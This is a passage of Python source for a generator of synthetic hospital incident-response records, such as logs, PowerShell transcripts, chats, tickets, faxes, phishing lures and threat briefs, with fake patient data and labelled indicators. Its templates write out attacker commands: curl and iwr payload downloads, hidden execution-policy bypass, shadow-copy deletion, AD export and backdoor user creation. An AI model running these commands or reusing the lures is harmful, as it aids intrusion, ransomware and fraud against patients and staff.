    gw = I(server(o, rng), "HOSTNAME")
    for _ in range(rng.randint(5, 10)):
        t = tick(t, rng, 2, 600)
        u = c.staff()
        k = rng.randint(0, 3)
        atk = X(pub_ip(rng), "IPV4")
        if k == 0:
            d.fill("{t} {gw} : %ASA-6-722051: Group <GP-{g}> User <{u}> IP <{ip}> IPv4 Address <{lip}> assigned to session\n",
                   t=ts(t, "syslog"), gw=gw, g=pick(rng, "Staff", "Vendors", "Clinical"), u=I(u.user, "USERNAME"), ip=atk, lip=I(lan_ip(o, rng), "IP"))
        elif k == 1:
            d.fill("{t} {gw} : %ASA-4-113019: Group = GP-Staff, Username = {u}, IP = {ip}, Session disconnected. Session Type: SSL, Duration: 0h:{m}m:{s}s\n",
                   t=ts(t, "syslog"), gw=gw, u=I(u.user, "USERNAME"), ip=atk, m=f"{rng.randint(0, 59):02d}", s=f"{rng.randint(0, 59):02d}")
        elif k == 2:
            d.fill("{t} {gw} 0-PPE-0 : default SSLVPN LOGIN {n} 0 : Context {u}@{ip} - SessionId: {sid}- User {u2} - Client_ip {ip2} - Nat_ip \"Mapped Ip\" - Vserver {vip}:443 - Browser_type \"{ua}\" - SSLVPN_client_type ICA - Group(s) \"{grp}\"\n",
                   t=ts(t, "%m/%d/%Y:%H:%M:%S GMT"), gw=gw, n=str(rng.randint(10 ** 6, 10 ** 8)), u=I(u.user, "USERNAME"), ip=atk,
                   sid=str(rng.randint(1000, 99999)), u2=I(u.user, "USERNAME"), ip2=atk,
                   vip=I(lan_ip(o, rng), "IP"), ua=pick(rng, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "CitrixReceiver/23.9"),
                   grp=pick(rng, "Radiology", "Remote-Physicians", "IT-Admins"))
        else:
            d.fill("{t} {gw} GLOBALPROTECT,gateway-auth,login,{res},user: {u}, ip: {ip}, private ip: {lip}, machine: {h}\n",
                   t=ts(t, "sp"), gw=gw, res=pick(rng, "success", "failure"), u=I(o.netbios + "\\" + u.user, "USERNAME"), ip=atk,
                   lip=I(lan_ip(o, rng), "IP"), h=I(host(o, rng), "HOSTNAME"))
    return d



def s_journald(c):
    rng, o = c.rng, c.o
    t = recent(rng)
    h = I(server(o, rng), "HOSTNAME")
    d = Doc()
    d.fill(pick(rng, "journalctl -o short --since yesterday on {h}, trimmed:\n\n",
                "Linux side of the intrusion ({h}, the {app} box):\n\n"),
           h=h, app=pick(rng, "Mirth", "PACS router", "lab middleware", "patient portal"))
    for _ in range(rng.randint(6, 12)):
        t = tick(t, rng, 1, 700)
        u = c.staff()
        k = rng.randint(0, 5)
        pid = rng.randint(300, 65000)
        if k == 0:
            d.fill("{t} {h} sshd[{pid}]: Accepted {m} for {u} from {ip} port {port} ssh2\n", t=ts(t, "syslog"), h=h, pid=str(pid),
                   m=pick(rng, "password", "publickey"), u=I(u.user, "USERNAME"), ip=I(lan_ip(o, rng), "IP"), port=str(rng.randint(30000, 65000)))
        elif k == 1:
            d.fill("{t} {h} sshd[{pid}]: Failed password for invalid user {bad} from {ip} port {port} ssh2\n", t=ts(t, "syslog"), h=h,
                   pid=str(pid), bad=pick(rng, "oracle", "admin", "test", "ubuntu", "postgres", "git"), ip=X(pub_ip(rng), "IPV4"),
                   port=str(rng.randint(30000, 65000)))
        elif k == 2:
            d.fill("{t} {h} sudo[{pid}]:   {u} : TTY=pts/{n} ; PWD=/home/{u2} ; USER=root ; COMMAND=/usr/bin/curl -fsSL {url} -o /tmp/.{x}\n",
                   t=ts(t, "syslog"), h=h, pid=str(pid), u=I(u.user, "USERNAME"), n=str(rng.randint(0, 5)), u2=I(u.user, "USERNAME"),
                   url=X(url_ind(rng), "URL"), x=pick(rng, "x", "kworker", "dbus"))
        elif k == 3:
            d.fill("{t} {h} systemd-logind[{pid}]: New session {n} of user {u}.\n", t=ts(t, "syslog"), h=h, pid=str(pid),
                   n=str(rng.randint(10, 9999)), u=I(u.user, "USERNAME"))
        elif k == 4:
            d.fill("{t} {h} useradd[{pid}]: new user: name={nu}, UID={uid}, GID={uid}, home=/home/{nu}, shell=/bin/bash\n",
                   t=ts(t, "syslog"), h=h, pid=str(pid), nu=pick(rng, "sysadm1n", "svc-updater", "backup2", "nagios1"), uid=str(rng.randint(1001, 1999)))
        else:
            d.fill("{t} {h} kernel: [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST={lip} PROTO=TCP SPT={sp} DPT={dp}\n", t=ts(t, "syslog"), h=h,
                   ip=X(pub_ip(rng), "IPV4"), lip=I(lan_ip(o, rng), "IP"), sp=str(rng.randint(1024, 65000)), dp=pick(rng, "22", "443", "3389", "445"))
    return d


def s_powershell(c):
    rng, o = c.rng, c.o
    u, t = c.actor()
    h = I(host(o, rng), "HOSTNAME")
    d = Doc()
    d.fill(pick(rng, "Transcript found in {who}'s Documents folder on {h} (PowerShell transcription GPO):\n\n",
                "PS transcript pulled by the EDR from {h}; logged-on user was {who}.\n\n"), who=nm(u), h=h)
    d.t("**********************\nWindows PowerShell transcript start\n")
    d.fill("Start time: {t}\nUsername: {du}\nRunAs User: {ru}\nConfiguration Name: \nMachine: {h} (Microsoft Windows NT 10.0.{b}.0)\n",
           t=ts(t, "%Y%m%d%H%M%S"), du=I(f"{o.netbios}\\{u.user}", "USERNAME"),
           ru=I(f"{o.netbios}\\{pick(rng, 'adm-', 'a-', 'admin_')}{u.user}", "USERNAME"), h=h, b=pick(rng, "19045", "22631", "17763"))
    d.fill("Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -ep bypass\nProcess ID: {pid}\n"
           "PSVersion: 5.1.19041.5247\n**********************\n", pid=str(rng.randint(1000, 20000)))
    user_dir = I(u.user, "USERNAME")
    dc = I(server(o, rng), "HOSTNAME")
    tnc = pub_ip(rng)
    cmds = [Doc().fill("PS C:\\Users\\{u}> iwr {url} -OutFile C:\\Users\\Public\\{f}\n", u=user_dir, url=X(url_ind(rng), "URL"),
                       f=pick(rng, "svchost32.exe", "update.ps1", "rc.msi")),
            Doc().fill("PS C:\\Users\\{u}> Get-FileHash C:\\Users\\Public\\{f}\n\nAlgorithm       Hash\n---------       ----\nSHA256          {hsh}\n\n",
                       u=user_dir, f=pick(rng, "svchost32.exe", "rc.msi"), hsh=X(hexs(rng, 64).upper(), "SHA256")),
            Doc().fill("PS C:\\Users\\{u}> nltest /dclist:{dom}\nGet list of DCs in domain '{dom2}' from '\\\\{dc}'.\n",
                       u=user_dir, dom=I(o.domains[0], "HOSTNAME"), dom2=I(o.domains[0], "HOSTNAME"), dc=dc),
            Doc().fill("PS C:\\Users\\{u}> Get-ADUser -Filter * -Properties mail | Export-Csv C:\\ProgramData\\u.csv\n", u=user_dir),
            Doc().fill("PS C:\\Users\\{u}> Test-NetConnection {ip} -Port 443\nComputerName     : {ip2}\nRemoteAddress    : {ip3}\nTcpTestSucceeded : True\n",
                       u=user_dir, ip=X(tnc, "IPV4"), ip2=X(tnc, "IPV4"), ip3=X(tnc, "IPV4")),
            Doc().fill("PS C:\\Users\\{u}> vssadmin delete shadows /all /quiet\n", u=user_dir),
            Doc().fill("PS C:\\Users\\{u}> Invoke-Command -ComputerName {s} -ScriptBlock { whoami }\n{du}\n",
                       u=user_dir, s=I(server(o, rng), "HOSTNAME"), du=I(f"{o.netbios.lower()}\\{u.user}", "USERNAME"))]
    rng.shuffle(cmds)
    for cmd in cmds[:rng.randint(3, 6)]:
        d.put(cmd)
    d.t("**********************\nWindows PowerShell transcript end\n")
    return d


CHAT = {
    "en": ["{at} can you pull the pcap for {h}? it beaconed to {ip} again",
           "pt {p} (MRN {mrn}) got the wrong label printed, that's when the printer queue on {h} went weird",
           "ok so {u} is the account they used. resetting now",
           "{fam} note dropped on {h}, same hash as the one {at} posted: {hash}",
           "lol no, Brown-out on 3 again, that's facilities not us",
           "family of {p} called the front desk at {ph} asking why the portal shows someone else's DOB ({dob})",
           "{at} do you still have the list from {who}? need it for legal",
           "blocking {dom} at the proxy. anyone object?",
           "the fax from {p}'s cardiologist came in blank, fax line {fx}",
           "Reporting clinic is still {cl}, will change after wire change tonight",
           "{who} approved the vendor VPN for {u} — was that you {at}?"],
    "es": ["{at} ¿puedes revisar {h}? sigue conectando a {ip}",
           "la paciente {p} (expediente {mrn}) llamó desde {ph}, dice que recibió un SMS raro",
           "la cuenta comprometida es {u}, ya la bloqueé",
           "nota de {fam} en {h}, hash {hash}",
           "{who} pidió la lista de pacientes afectados, ¿la tienes {at}?",
           "bloqueando {dom} en el proxy"],
    "fr": ["{at} tu peux regarder {h} ? il contacte encore {ip}",
           "le patient {p} (IPP {mrn}) a rappelé au {ph}, né le {dob}",
           "compte utilisé : {u}, mot de passe réinitialisé",
           "note de rançon {fam} sur {h}, empreinte {hash}",
           "{who} veut la liste des dossiers consultés, {at} tu l'as ?",
           "je bloque {dom} sur le proxy"],
    "de": ["{at} kannst du dir {h} ansehen? Verbindung zu {ip} schon wieder",
           "Patientin {p} (Fallnr. {mrn}) hat unter {ph} angerufen, geb. {dob}",
           "das kompromittierte Konto ist {u}, ist gesperrt",
           "{fam}-Erpresserschreiben auf {h}, Hash {hash}",
           "{who} braucht die Liste für den Datenschutz, hast du sie {at}?",
           "sperre {dom} am Proxy"],
    "pt": ["{at} consegue olhar o {h}? está falando com {ip} de novo",
           "a paciente {p} (prontuário {mrn}) ligou do {ph}, nascida em {dob}",
           "a conta usada foi {u}, já bloqueei",
           "nota do {fam} no {h}, hash {hash}",
           "{who} pediu a lista de pacientes, {at} você tem?",
           "bloqueando {dom} no proxy"],
}


def chat_slots(c, people):
    rng, o = c.rng, c.o
    p = c.patient()
    at_p = rng.choice(people)
    who = rng.choice(people)
    return dict(at=Doc().t("@").put(nm(at_p, pick(rng, "first", "full"))), h=I(host(o, rng), "HOSTNAME"), ip=X(pub_ip(rng), "IPV4"),
                p=nm(p, pick(rng, "full", "full", "lf", "init")), mrn=I(p.mrn, "MRN"), u=I(rng.choice(people).user, "USERNAME"),
                fam=X(rng.choice(MALWARE[:38]), "MALWARE"), hash=X(hexs(rng, pick(rng, 64, 32, 40)), pick(rng, "HASH")),
                ph=I(phone(o, rng), "PHONE"), dob=I(c.date(p.dob), "DATE"), who=nm(who, pick(rng, "first", "full")),
                dom=X(domain_ind(rng), "DOMAIN"), fx=I(phone(o, rng), "FAX"), cl=I(o.short + "-" + rng.choice(DEPTS).upper(), "ORG"))


def s_chat(c):
    rng, o = c.rng, c.o
    lang = o.lang if o.lang in CHAT else "en"
    people = rng.sample(o.staff, 4)
    t = recent(rng)
    teams = rng.random() < 0.5
    d = Doc()
    d.fill(pick(rng, "Chat export from the incident channel #{ch}:\n\n", "Copied from Teams ({ch}):\n\n"),
           ch=pick(rng, "ir-bridge", "sec-ops", "downtime-war-room", "helpdesk-tier2"))
    msgs = rng.sample(CHAT[lang], min(len(CHAT[lang]), rng.randint(6, 11)))
    for msg in msgs:
        t = tick(t, rng, 10, 400)
        who = rng.choice(people)
        if teams:
            d.fill("[{t}] {n}\n", t=ts(t, "%m/%d/%Y %I:%M %p"), n=nm(who, pick(rng, "lf", "full")))
        else:
            d.fill("{n}  {t}\n", n=I(who.user, "USERNAME") if rng.random() < 0.5 else nm(who), t=ts(t, "%I:%M %p"))
        slots = chat_slots(c, [p for p in people if p is not who] or people)
        hv = slots["hash"][0]
        slots["hash"] = X(hv, {64: "SHA256", 32: "MD5", 40: "SHA1"}[len(hv)])
        d.fill(msg + "\n\n", **{k: v for k, v in slots.items() if "{" + k + "}" in msg})
    return d


def s_ticket(c):
    rng, o = c.rng, c.o
    caller, tech = c.two_staff()
    p = c.patient()
    t = recent(rng)
    num = pick(rng, "INC", "RITM", "SEC-", "HD-") + str(rng.randint(10000, 9999999))
    d = Doc()
    d.fill("Number: {num}\nCaller: {caller}\nCaller phone: {ph}\nLocation: {loc}\nConfiguration item: {ci}\nAssignment group: {grp}\nAssigned to: {tech}\n"
           "Short description: {sd}\n\nDescription:\n",
           num=num, caller=nm(caller, pick(rng, "full", "lf")), ph=I(pick(rng, f"x{rng.randint(2000, 8999)}", phone(o, rng)), "PHONE"),
           loc=Doc().put(I(o.name, "ORG")).t(pick(rng, " - 4 West", " / Main Campus", " - Radiology")),
           ci=I(host(o, rng), "HOSTNAME"), grp=pick(rng, "Service Desk", "InfoSec", "Clinical Apps", "Desktop Support"),
           tech=nm(tech), sd=pick(rng, "Suspicious pop-up asking for Citrix password", "Printer printing other patients' labels",
                                  "User clicked link in fax-to-email notice", "Cannot open chart - 'record locked by another user'"))
    d.fill(pick(rng,
                "{cf} says after clicking the link in an e-mail from {am} the screen went black. She was charting on {p} "
                "(MRN {mrn}, DOB {dob}) at the time. Link was {url}.\n",
                "Nurse {cf} reports chart for {p} {mrn} opened with another patient's allergies. Workstation had a "
                "browser extension from {dom} installed. {age}-year-old patient, family at bedside ({ph2}).\n",
                "User {u} received a voicemail-to-email from {am} with attachment VM_{n}.htm; it loaded {url}. "
                "Patient mentioned in the message: {p}, callback {ph2}.\n"),
           cf=nm(caller, "first"), am=X(atk_mail(rng), "EMAIL"), p=nm(p), mrn=I(p.mrn, "MRN"), dob=I(c.date(p.dob), "DATE"),
           url=X(url_ind(rng, defang=rng.random() < 0.3), "URL"), dom=X(domain_ind(rng), "DOMAIN"),
           age=(I(str(age_of(p.dob)), "AGE") if age_of(p.dob) >= 90 else N(str(age_of(p.dob)), "AGE_UNDER_90")),
           ph2=I(phone(o, rng), "PHONE"), u=I(caller.user, "USERNAME"), n=str(rng.randint(1000, 9999)))
    d.t("\nWork notes:\n")
    for _ in range(rng.randint(2, 4)):
        t = tick(t, rng, 300, 7200)
        w = rng.choice([tech, caller, c.staff()])
        d.fill("{t} - {w} (Work notes)\n", t=ts(t, "sp"), w=nm(w))
        d.fill(pick(rng,
                    "Isolated {h} in Defender, user {u} disabled. Hash {hash} matches {fam}.\n\n",
                    "Called {cf} back at {ph}, no answer. Left VM.\n\n",
                    "Mailbox purge done for sender {am}; {n} recipients incl. {other}.\n\n",
                    "Reimaged {h}. {cf} confirmed no PHI was typed into the fake page. Closing after {who} signs off.\n\n",
                    "Block added for {ip} and {dom} ({mitre}).\n\n"),
               h=I(host(o, rng), "HOSTNAME"), u=I(caller.user, "USERNAME"), hash=X(hexs(rng, 64), "SHA256"),
               fam=X(rng.choice(MALWARE), "MALWARE"), cf=nm(caller, "first"), ph=I(phone(o, rng), "PHONE"),
               am=X(atk_mail(rng), "EMAIL"), n=str(rng.randint(3, 80)), other=I(c.email(c.staff()), "EMAIL"),
               who=nm(c.staff(), "init"), ip=X(pub_ip(rng), "IPV4"), dom=X(domain_ind(rng), "DOMAIN"), mitre=X(rng.choice(MITRE), "MITRE"))
    return d


ONES = ["zero", "one", "two", "three", "four", "five", "six", "seven", "eight", "nine"]
ORD = ["", "first", "second", "third", "fourth", "fifth", "sixth", "seventh", "eighth", "ninth", "tenth",
       "eleventh", "twelfth", "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "eighteenth",
       "nineteenth", "twentieth", "twenty first", "twenty second", "twenty third", "twenty fourth", "twenty fifth",
       "twenty sixth", "twenty seventh", "twenty eighth", "twenty ninth", "thirtieth", "thirty first"]
TENS = ["", "", "twenty", "thirty", "forty", "fifty", "sixty", "seventy", "eighty", "ninety"]
TEENS = ["ten", "eleven", "twelve", "thirteen", "fourteen", "fifteen", "sixteen", "seventeen", "eighteen", "nineteen"]


def two_digits(n):
    if n < 10:
        return "oh " + ONES[n]
    if n < 20:
        return TEENS[n - 10]
    return TENS[n // 10] + ("" if n % 10 == 0 else " " + ONES[n % 10])


def spoken_date(d):
    y = d.year
    yr = f"nineteen {two_digits(y % 100)}" if y < 2000 else f"two thousand {ONES[y % 10] if y % 100 < 10 else two_digits(y % 100)}"
    return f"{d.strftime('%B').lower()} {ORD[d.day]} {yr}"


def s_voicemail(c):
    rng, o = c.rng, c.o
    caller = c.patient()
    p = c.patient()
    num = "".join(rng.choice(string.digits) for _ in range(10))
    spoken = " ".join(ONES[int(x)] for x in num)
    if rng.random() < 0.5:
        spoken = " ".join(ONES[int(x)] for x in num[:3]) + ", " + " ".join(ONES[int(x)] for x in num[3:6]) + ", " + \
            " ".join(ONES[int(x)] for x in num[6:])
    t = recent(rng)
    d = Doc()
    d.fill(pick(rng, "Voicemail transcription forwarded by the {unit} desk ({t}, from {cid}). The callback number in it is the one from the smishing text.\n\n",
                "Auto-transcribed VM attached to the phishing ticket (received {t}, caller ID {cid}):\n\n"),
           unit=pick(rng, "4 West", "registration", "billing office", "oncology"), t=ts(t, "sp"), cid=I(phone(o, rng), "PHONE"))
    d.fill(pick(rng,
                "\"hi uh this is {cg} calling about my {rel} {pname} um date of birth is {sd} {pr} got a text saying {pos} "
                "account at {org} was locked and to call {smish} so I did and they asked for {pos} member ID which is "
                "{hp} and I gave it to them um please call me back at {sp} thank you\"\n",
                "\"yes hello my name is {cn} I'm calling from {pc} my {rel} {pname} was seen on {sdv} and we got a bill "
                "from a collection agency that says to pay at {url} is that real um my number is {sp} bye\"\n"),
           cg=nm(caller, "first"), cn=nm(caller), rel=pick(rng, "mother", "wife", "daughter") if p.female else pick(rng, "husband", "dad", "son"),
           pname=nm(p), sd=I(spoken_date(p.dob), "DATE"), org=I(o.name, "ORG"),
           pr="she" if p.female else "he", pos="her" if p.female else "his",
           smish=X(f"+1 {rng.randint(300, 899)} {rng.randint(200, 999)} {rng.randint(1000, 9999)}", "PHONE_ATTACKER"),
           hp=I(" ".join(health_plan(rng)), "HEALTH_PLAN"), sp=I(spoken, "PHONE"),
           pc=I(fk(o.loc).city(), "CITY"), sdv=I(spoken_date(recent(rng).date()), "DATE"), url=X(url_ind(rng), "URL"))
    rt = c.staff()
    d.fill("\nTranscription confidence: {n}%. Routed to {who} ({em}).\n", n=str(rng.randint(61, 97)), who=nm(rt), em=I(c.email(rt), "EMAIL"))
    return d


OCR = str.maketrans({"i": "1", "l": "I", "o": "0", "m": "rn", "e": "c", "S": "5"})


def ocr(rng, label):
    """An OCR-damaged label (other words; never a span)."""
    out = []
    for ch in label:
        out.append(ch.translate(OCR) if rng.random() < 0.18 else ch)
    return "".join(out)


def s_fax(c):
    rng, o = c.rng, c.o
    p = c.patient()
    doc = c.staff()
    sender = c.staff()
    d = Doc()
    d.fill(pick(rng, "Fax that came through the e-fax gateway with the malicious link ({url}) stamped in the footer — OCR text:\n\n",
                "OCR of the inbound fax (it carried a QR code to {url}):\n\n"), url=X(url_ind(rng, defang=rng.random() < 0.5), "URL"))
    d.fill("{l1} {org}\n{l2}: {fx}   {l3}: {ph}\n", l1=ocr(rng, "FAX COVER SHEET -"), org=I(o.name.upper() if o.name.isascii() else o.name, "ORG"),
           l2=ocr(rng, "Fax"), fx=I(phone(o, rng), "FAX"), l3=ocr(rng, "Phone"), ph=I(phone(o, rng), "PHONE"))
    d.fill("{l}: {n}\n", l=ocr(rng, "From"), n=Doc().put(N("Dr.", "TITLE")).t(" ").put(nm(doc)))
    if p.latin() and " " not in p.given and rng.random() < 0.6:  # name broken across lines by the OCR
        d.fill("{l}: {g}\n{f}   {l2} {dob}\n", l=ocr(rng, "Patient Name"), g=I(p.given, "NAME"), f=I(p.family, "NAME"),
               l2=ocr(rng, "DOB"), dob=I(c.date(p.dob), "DATE"))
    else:
        d.fill("{l}: {n}   {l2} {dob}\n", l=ocr(rng, "Patient Name"), n=nm(p, pick(rng, "LF", "full")), l2=ocr(rng, "DOB"), dob=I(c.date(p.dob), "DATE"))
    d.fill("{l}: {mrn}   {l2}: {ssn}\n", l=ocr(rng, "MRN"), mrn=I(p.mrn, "MRN"), l2=ocr(rng, "SSN"), ssn=I(ssn(rng), "SSN"))
    d.fill("{l}\n{a}", l=ocr(rng, "Address:"), a=addr_block(o, rng))
    d.fill("{l} {n}   NPI {npi}   DEA {dea}\n{l2} {lic}\n", l=ocr(rng, "Prescriber:"), n=nm(doc, "LF"), npi=I(npi(rng), "LICENSE"),
           dea=I(dea(doc, rng), "LICENSE"), l2=ocr(rng, "State license:"), lic=I(state_license(rng), "LICENSE"))
    d.fill(pick(rng, "{rx} — {l} {sig}\n", "{l}: {rx}\n"), rx=pick(rng, "oxycodone 5 mg #60", "apixaban 5 mg BID", "insulin glargine 100 u/mL"),
           l=ocr(rng, "Sig"), sig=pick(rng, "1 tab q6h prn", "as directed", "30 days"))
    d.fill("\n{l}\n{who} {ext}\n", l=ocr(rng, "Questions? Contact"), who=nm(sender), ext=I(f"x{rng.randint(1000, 8999)}", "PHONE"))
    d.fill("{l}\n", l=ocr(rng, "CONFIDENTIALITY NOTICE: This facsimile contains protected health information."))
    return d


def s_denial(c):
    rng, o = c.rng, c.o
    p = c.patient()
    t = recent(rng)
    payer = pick(rng, "Keystone Health Plan", "Acme Mutual Benefit Co.", "Pinnacle Care Insurance", "Northwind Health Plans")
    d = Doc()
    d.fill(pick(rng, "This denial letter was the lure: a PDF attached to mail from {am}, with a QR code to {url}. Text of the PDF:\n\n",
                "Attaching the text of the 'denial letter' our billing staff received; the real one looks the same, this one came from {am} "
                "and points to {url}.\n\n"),
           am=X(atk_mail(rng), "EMAIL"), url=X(url_ind(rng), "URL"))
    d.fill("{payer}\nClaims Review Department\n\n{date}\n\n", payer=payer, date=N(t.strftime("%B %d, %Y"), "LETTER_DATE"))
    d.fill("{n}\n", n=nm(p, pick(rng, "full", "mid")))
    d.put(addr_block(o, rng))
    d.fill("\nMember ID: {mid}\nGroup: {grp}\nClaim number: {cl}\nPatient: {pn}\nDate of birth: {dob}\nDate(s) of service: {dos}\nProvider: {org}\n\n",
           mid=I(health_plan(rng), "HEALTH_PLAN"), grp=str(rng.randint(10000, 99999)), cl=I(f"{rng.randint(10, 99)}{rng.randint(10 ** 8, 10 ** 10)}", "ACCOUNT"),
           pn=nm(p), dob=I(c.date(p.dob), "DATE"), dos=I(c.date((t - dt.timedelta(days=rng.randint(10, 80))).date()), "DATE"), org=I(o.name, "ORG"))
    d.fill("Dear {t} {last}:\n\nWe reviewed the claim for services you received at {org} and cannot approve payment. "
           "The service ({svc}) was not medically necessary under your plan. You may appeal within 180 days by calling "
           "{ph} or by visiting the member portal.\n\nSincerely,\n{rev}\nMedical Director\n",
           t=N(c.title(p), "TITLE"), last=nm(p, "last"), org=I(o.name, "ORG"), svc=pick(rng, "MRI lumbar spine", "CPAP supply", "inpatient day 4", "genetic panel"),
           ph=I(phone(o, rng), "PHONE"), rev=Doc().put(I(fk("en_US").name(), "NAME")).t(", MD"))
    return d


def s_police(c):
    rng, o = c.rng, c.o
    victim, t = c.actor()
    d = Doc()
    d.fill("{agency} — INCIDENT REPORT {num}\nDate/time reported: {t}\nReporting party: {rp}, employed by {org}\nRP phone: {ph}\nRP address: {addr}\n\n",
           agency=pick(rng, "Metro Police Department", "County Sheriff's Office", "Campus Public Safety"), num=str(rng.randint(10 ** 6, 10 ** 8)),
           t=ts(t, "%m/%d/%Y %H%M"), rp=nm(victim, "LF"), org=I(o.name, "ORG"), ph=I(phone(o, rng), "PHONE"), addr=addr_inline(o, rng))
    car = pick(rng, "2019 Honda CR-V", "2021 Toyota RAV4", "2016 Ford F-150", "2022 Kia Sorento")
    d.fill("Narrative: RP states that between {a} and {b} their vehicle, a {car} ({col}) with plate {pl} and VIN {vin}, was broken into "
           "in the parking garage. Taken: a hospital-issued laptop (asset {tag}, serial {sn}) and a bag containing a paper census "
           "list for unit {unit} with about {n} patient names. RP believes the laptop was encrypted. ",
           a=N(t.strftime("%H%M"), "TIME"), b=N(tick(t, rng, 3600, 9000).strftime("%H%M"), "TIME"), car=car,
           col=pick(rng, "silver", "black", "white", "red"), pl=I(plate(o, rng), "VEHICLE"),
           vin=I("".join(rng.choice("ABCDEFGHJKLMNPRSTUVWXYZ0123456789") for _ in range(17)), "VEHICLE"),
           tag=I(f"{o.short}-{rng.randint(10000, 99999)}", "DEVICE_SERIAL"), sn=I(device_serial(rng), "DEVICE_SERIAL"),
           unit=pick(rng, "5 North", "MICU", "L&D", "Ortho"), n=str(rng.randint(12, 40)))
    w = c.patient()
    d.fill("Witness {w}, {wa}, phone {wp}, saw a male in a grey hoodie near a {car2} with plate {pl2}.\nOfficer: {off}, badge {badge}\n",
           w=nm(w), wa=addr_inline(o, rng), wp=I(phone(o, rng), "PHONE"), car2=pick(rng, "dark sedan", "white van", "pickup"),
           pl2=I(plate(o, rng), "VEHICLE"), off=Doc().t("Ofc. ").put(I(fk("en_US").name(), "NAME")), badge=N(str(rng.randint(1000, 9999)), "BADGE"))
    d.fill("\nIT note ({me}): the laptop's last check-in was from {ip} — not our range. Possibly a {fam} affiliate reselling access; "
           "see {mitre}.\n", me=nm(c.staff(), "init"), ip=X(pub_ip(rng), "IPV4"), fam=X(rng.choice(MALWARE), "MALWARE"),
           mitre=X(rng.choice(MITRE), "MITRE"))
    return d


def s_sheet(c):
    rng, o = c.rng, c.o
    cols = rng.sample(["Name", "DOB", "MRN", "Address", "City", "ZIP", "Phone", "Email", "Insurance ID", "Admit", "Age"]
                      + (["SSN"] if o.loc == "en_US" else []), rng.randint(6, 9))
    if "Name" not in cols:
        cols[0] = "Name"
    sep = pick(rng, "\t", "\t", ",", ";")
    split_name = rng.random() < 0.3
    hdr = []
    for col in cols:
        if col == "Name" and split_name:
            hdr += ["Last", "First"]
        else:
            hdr.append(pick(rng, col, col.upper(), col.lower().replace(" ", "_")))
    rows = [hdr]
    lf = rng.random() < 0.5
    for _ in range(rng.randint(7, 14)):
        p = c.patient()
        row = []
        f = fk(o.loc)
        for col in cols:
            if col == "Name":
                row += [I(p.family, "NAME"), I(p.given, "NAME")] if split_name else [nm(p, "lf" if lf else "full")]
            elif col == "DOB":
                row.append(I(c.date(p.dob), "DATE"))
            elif col == "MRN":
                row.append(I(p.mrn, "MRN"))
            elif col == "Address":
                row.append(I(f.street_address() if o.loc not in ("tr_TR", "ar_SA", "hi_IN", "ja_JP") else addr_parts(o, rng)["ADDRESS"][0], "ADDRESS"))
            elif col == "City":
                row.append(addr_parts(o, rng).get("CITY", I(fk("en_US").city(), "CITY")))
            elif col == "ZIP":
                row.append(addr_parts(o, rng).get("ZIP", I(fk("en_US").zipcode(), "ZIP")))
            elif col == "Phone":
                row.append(I(phone(o, rng), "PHONE"))
            elif col == "Email":
                row.append(I(f"{ascii_fold(p.given).lower().replace(' ', '') or 'pt'}.{rng.randint(1, 9999)}@{rng.choice(['gmail.com', 'yahoo.com', 'aol.com', 'outlook.com', 'web.de', 'orange.fr'])}", "EMAIL"))
            elif col == "Insurance ID":
                row.append(I(health_plan(rng), "HEALTH_PLAN"))
            elif col == "SSN":
                row.append(I(ssn(rng), "SSN"))
            elif col == "Admit":
                row.append(I(recent(rng).strftime(pick(rng, "%Y-%m-%d %H:%M", "%m/%d/%Y %H:%M")), "DATETIME"))
            else:
                a = age_of(p.dob)
                row.append(I(str(a), "AGE") if a >= 90 else N(str(a), "AGE_UNDER_90"))
        rows.append(row)
    d = Doc()
    d.fill(pick(rng,
                "Spreadsheet the {fam} crew posted on their leak site as proof — it matches our {what} export. Pasting the first rows "
                "so the ISAO can see the layout (leak URL {url}):\n\n",
                "Found on {h} in an open share, last modified by {u}. This is what was reachable from the compromised host:\n\n",
                "Breach notification working list (from {who}) — affected patients, batch {n}:\n\n"),
           fam=X(rng.choice(MALWARE[:38]), "MALWARE"), what=pick(rng, "registration", "billing", "census"),
           url=X("http://" + "".join(rng.choice(string.ascii_lowercase + "234567") for _ in range(56)) + ".onion/" + hexs(rng, 8), "URL"),
           h=I(server(o, rng), "HOSTNAME"), u=I(c.staff().user, "USERNAME"), who=nm(c.staff()), n=str(rng.randint(1, 30)))
    d.put(delimited(rows, sep))
    return d


BRIEF_FRAMES = [
    "{fam} affiliates are again hitting {sector} through {cve} on unpatched edge devices; initial access brokers sell the "
    "footholds for {usd}. Observed C2: {ip1}, {ip2} and {dom}. Techniques: {m1}, {m2}.\n\n",
    "Play and Akira both used {cve} this month, but note that 'Play' in the ransom note is the group name, not a verb. "
    "The {fam} loader {md5} ({mal}) phones home to {url}.\n\n",
    "Negotiators report {act} posing as help-desk staff and calling nurses to reset MFA ({m1}). Victims then see "
    "{fam} within {h} hours. Contact used on the ransom note: {am}. Payment wallet {w}.\n\n",
    "Hash list — SHA-256 {s1}, SHA-1 {s2}, MD5 {md5}. Infrastructure: {ip6}, {dom}. Exfil over {m3} to {url}.\n\n",
    "Royal rebranded to BlackSuit; Medusa and Rhysida keep targeting hospitals. {act} overlaps with {fam} tooling ({mal}).\n\n",
]


def s_brief(c):
    rng, o = c.rng, c.o
    d = Doc()
    d.fill("{hdr} — weekly healthcare threat brief, prepared by {who} ({org})\n\n",
           hdr=pick(rng, "TLP:GREEN", "TLP:AMBER", "TLP:CLEAR"), who=nm(c.staff()), org=I(o.name, "ORG"))
    for fr in rng.sample(BRIEF_FRAMES, rng.randint(3, 5)):
        slots = dict(fam=X(rng.choice(MALWARE[:38]), "MALWARE"), sector=pick(rng, "rural hospitals", "dialysis providers", "imaging centers"),
                     cve=X(rng.choice(CVES), "CVE"), usd=pick(rng, "$500–$3,000", "a few thousand dollars"),
                     ip1=X(pub_ip(rng), "IPV4"), ip2=X(pub_ip(rng), "IPV4"), dom=X(domain_ind(rng), "DOMAIN"),
                     m1=X(rng.choice(MITRE), "MITRE"), m2=X(rng.choice(MITRE), "MITRE"), m3=X(rng.choice(MITRE), "MITRE"),
                     md5=X(hexs(rng, 32), "MD5"), mal=X(rng.choice(MALWARE[38:]), "MALWARE"), url=X(url_ind(rng, defang=rng.random() < 0.4), "URL"),
                     act=X(rng.choice(ACTORS), "ACTOR"), h=str(rng.randint(2, 72)), am=X(atk_mail(rng), "EMAIL"),
